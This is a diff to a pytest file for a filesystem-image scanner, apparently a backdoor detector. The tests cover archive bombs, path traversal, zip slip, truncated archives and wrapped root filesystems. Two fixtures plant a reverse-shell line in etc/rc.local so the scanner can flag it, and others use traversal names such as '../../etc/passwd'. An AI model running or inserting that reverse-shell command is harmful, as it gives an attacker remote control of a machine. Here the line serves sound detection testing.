@@ -6,6 +6,7 @@ import gzip
 import io
 import os
 import stat
+import subprocess
 import tarfile
 import zipfile
 from pathlib import Path
@@ -135,9 +136,11 @@ def test_path_traversal_members_are_refused_and_nothing_is_written_outside(tmp_p
     )
     with open_image(archive) as image:
         assert set(image.entries) == {"etc", "etc/hostname", "etc/link"}
+        problems = " ".join(image.problems)  # content that was not scanned: the scan is incomplete
         warnings = " ".join(image.warnings)
-    assert "path traversal" in warnings and "../../victim/owned" in warnings
-    assert "below the non-directory etc/link" in warnings
+    assert "path traversal" in problems and "../../victim/owned" in problems
+    assert "below the non-directory etc/link" in problems
+    assert "etc/hard: hard link to missing or unsafe '../../etc/passwd' skipped" in warnings
     assert list(victim_dir.iterdir()) == []
     assert not (tmp_path.parent / "victim" / "owned").exists()
 
@@ -152,20 +155,29 @@ def test_zip_bomb_is_refused_with_a_clear_message(tmp_path: Path) -> None:
         for _ in range(300):
             fh.write(block)
     assert bomb.stat().st_size < 1 << 20
-    with pytest.raises(ImageError, match="zip bomb"):
-        open_image(bomb)
+    with open_image(bomb) as image:  # refused by the declared size, before decompressing
+        assert image.entries == {}
+        assert len(image.problems) == 1 and "archive bomb" in image.problems[0] and "(zeros)" in image.problems[0]
 
 
-def test_tar_bomb_stops_while_unpacking(tmp_path: Path) -> None:
+def test_tar_bomb_stops_the_unpacking_and_what_came_before_is_kept(tmp_path: Path) -> None:
     bomb = tmp_path / "bomb.tar.gz"
     with gzip.open(bomb, "wb", compresslevel=9) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
+        script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
+        first = tarfile.TarInfo("etc/rc.local")
+        first.size = len(script)
+        tar.addfile(first, io.BytesIO(script))
         info = tarfile.TarInfo("zeros")
         info.size = 200 << 20
         tar.addfile(info, io.BytesIO(b"\x00" * info.size))
-    with pytest.raises(ImageError, match="archive bomb"):
-        open_image(bomb, Limits(ratio_floor=16 << 20))
-    with pytest.raises(ImageError, match="size limit"):
-        open_image(bomb, Limits(max_total_bytes=8 << 20))
+    for limits, reason in ((Limits(ratio_floor=16 << 20), "archive bomb"), (Limits(max_total_bytes=8 << 20), "size limit")):
+        with open_image(bomb, limits) as image:
+            assert set(image.entries) == {"etc", "etc/rc.local"}
+            assert len(image.problems) == 1
+            assert reason in image.problems[0] and "at member 3 (zeros)" in image.problems[0]
+    result = scan_image(bomb, limits=Limits(ratio_floor=16 << 20), workers=1)
+    assert not result.complete and "archive bomb" in result.problems[0]
+    assert any(f.evidence[0].path == "etc/rc.local" and f.category == "backdoor" for f in result.findings)
 
 
 def test_fifo_and_devices_are_skipped_with_a_note(tmp_path: Path) -> None:
@@ -175,10 +187,13 @@ def test_fifo_and_devices_are_skipped_with_a_note(tmp_path: Path) -> None:
     assert any("FIFO" in w and "dev/initctl" in w for w in result.warnings)
 
 
-def test_file_count_limit(tmp_path: Path) -> None:
+@pytest.mark.parametrize("fmt", ["dir", *sorted(FORMATS)])
+def test_file_count_limit_stops_with_a_problem(tmp_path: Path, fmt: str) -> None:
     tree = _tree(tmp_path / "tree")
-    with pytest.raises(ImageError, match="file-count limit"):
-        open_image(make_tar(tree, tmp_path / "t.tar.gz"), Limits(max_files=3))
+    image = tree if fmt == "dir" else FORMATS[fmt](tree, tmp_path)
+    with open_image(image, Limits(max_files=3)) as opened:
+        assert 1 <= len(opened.entries) <= 3
+        assert len(opened.problems) == 1 and "file-count limit" in opened.problems[0]
 
 
 @pytest.mark.parametrize("content", [b"", b"this is not an image at all\n" * 10])
@@ -191,12 +206,18 @@ def test_empty_or_unknown_image_exits_3_with_a_message(tmp_path: Path, content: 
     assert ("empty (0 bytes)" in err) if not content else ("unknown image format" in err)
 
 
-def test_truncated_archive_is_a_clear_error(tmp_path: Path) -> None:
+def test_truncated_archive_keeps_what_came_before_the_cut(tmp_path: Path) -> None:
     tree = _tree(tmp_path / "tree")
+    for number in range(40):  # enough content that the decompressor delivers blocks before the cut
+        (tree / f"etc/blob{number}").write_bytes(os.urandom(20_000))
     whole = make_tar(tree, tmp_path / "t.tar.gz").read_bytes()
     cut = tmp_path / "cut.tar.gz"
     cut.write_bytes(whole[: len(whole) // 2])
-    with pytest.raises(ImageError, match="corrupt or truncated"):
+    with open_image(cut) as image:  # what came before the cut is kept and scanned
+        assert image.entries and set(image.entries) < set(_summary(tree))
+        assert len(image.problems) == 1 and "corrupt or truncated tar archive" in image.problems[0]
+    cut.write_bytes(whole[:100])  # nothing readable at all: an error, as before
+    with pytest.raises(ImageError, match="corrupt gz stream"):
         open_image(cut)
 
 
@@ -216,8 +237,11 @@ def test_sparse_file_bomb_is_refused_before_unpacking(tmp_path: Path, fmt: str) 
         fh.truncate(512 << 20)  # 512 MiB of holes: a few KB in the image
     image = FORMATS[fmt](tree, tmp_path)
     assert image.stat().st_size < 64 << 20
-    with pytest.raises(ImageError, match="archive bomb"):
-        open_image(image)
+    with open_image(image) as opened:  # refused from the listing: nothing of it is written
+        assert "var-log-huge" not in opened.entries
+        assert len(opened.problems) == 1 and "archive bomb" in opened.problems[0]
+        written = sum(p.stat().st_size for p in opened.root.rglob("*") if p.is_file() and not p.is_symlink())
+        assert written < 1 << 20
 
 
 def test_zip_slip_and_absolute_zip_members_are_refused(tmp_path: Path) -> None:
@@ -231,7 +255,7 @@ def test_zip_slip_and_absolute_zip_members_are_refused(tmp_path: Path) -> None:
         z.writestr("..\\..\\victim\\win", CANARY)
     with open_image(archive) as image:
         assert set(image.entries) == {"etc", "etc/hostname"}
-        assert "refused 3 member(s)" in " ".join(image.warnings)
+        assert "refused 3 member(s)" in " ".join(image.problems)
     assert list(victim_dir.iterdir()) == []
 
 
@@ -245,7 +269,7 @@ def test_unreadable_file_is_a_warning_not_a_crash(tmp_path: Path) -> None:
 
         ctx = make_context(image, read_packages(image), None, EndpointPolicy())
         result = file_pass(image, ctx, workers=1, want_digest=False)
-    assert any(w.startswith("etc/hostname: cannot read") for w in result.warnings)
+    assert result.problems == ("etc/hostname: cannot be read (No such file or directory): not scanned",)
 
 
 def test_full_unpack_disk_is_an_environment_problem(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -261,3 +285,52 @@ def test_full_unpack_disk_is_an_environment_problem(tmp_path: Path, monkeypatch:
     monkeypatch.setattr(os, "open", full_disk)
     with pytest.raises(EnvironmentProblem, match="set TMPDIR"):
         open_image(archive)
+
+
+# --- wrapped root filesystems (issue 14: "wrapped tarballs lose the root") ------------------------
+
+
+def _wrapped_tar(tree: Path, out: Path, top: str) -> Path:
+    """What ``tar czf out top/`` gives for a tree whose folder is called ``top``."""
+    subprocess.run(["tar", "-C", str(tree), "--numeric-owner", "--transform", f"s,^\\.,{top},", "-czf", str(out), "."],
+                   check=True)
+    return out
+
+
+def _debian_like(root: Path) -> Path:
+    tree = _tree(root)
+    (tree / "var/lib/dpkg/info").mkdir(parents=True)
+    (tree / "var/lib/dpkg/status").write_text("Package: debianutils\nStatus: install ok installed\nVersion: 5.7\n\n")
+    (tree / "var/lib/dpkg/info/debianutils.list").write_text("/usr/bin/tool\n")
+    (tree / "etc/rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
+    return tree
+
+
+@pytest.mark.parametrize("top", ["rootfs", "./build/rootfs", "cms-backup-2026/rootfs"])
+def test_wrapped_root_is_found_and_scanned_like_the_unwrapped_one(tmp_path: Path, top: str) -> None:
+    tree = _debian_like(tmp_path / "tree")
+    wrapped = _wrapped_tar(tree, tmp_path / "wrapped.tar.gz", top)
+    plain = make_tar(tree, tmp_path / "plain.tar.gz")
+    assert _summary(wrapped) == _summary(plain)
+    with open_image(wrapped) as image:
+        assert image.resolve("bin/tool") == "usr/bin/tool"  # links resolve against the found root
+        assert any("the root filesystem is the folder" in w for w in image.warnings)
+    a, b = scan_image(wrapped, workers=1), scan_image(plain, workers=1)
+    assert [f.to_json() for f in a.findings] == [f.to_json() for f in b.findings]
+    assert a.inventory.packages == b.inventory.packages and a.inventory.packages
+
+
+def test_wrapped_root_in_a_directory_and_what_lies_beside_it(tmp_path: Path) -> None:
+    backup = tmp_path / "backup"
+    _debian_like(backup / "rootfs")
+    (backup / "manifest.txt").write_text("made by the vendor\n")
+    with open_image(backup) as image:
+        assert "usr/bin/tool" in image.entries and "manifest.txt" not in image.entries
+        assert any("1 entries beside it are not part of it" in w and "manifest.txt" in w for w in image.warnings)
+
+
+def test_a_root_is_not_moved_into_a_chroot_it_holds(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    _debian_like(tree / "srv/chroot/old")
+    with open_image(tree) as image:  # the top has etc/ and usr/: it is the root
+        assert "srv/chroot/old/etc/rc.local" in image.entries and "etc/hostname" in image.entries
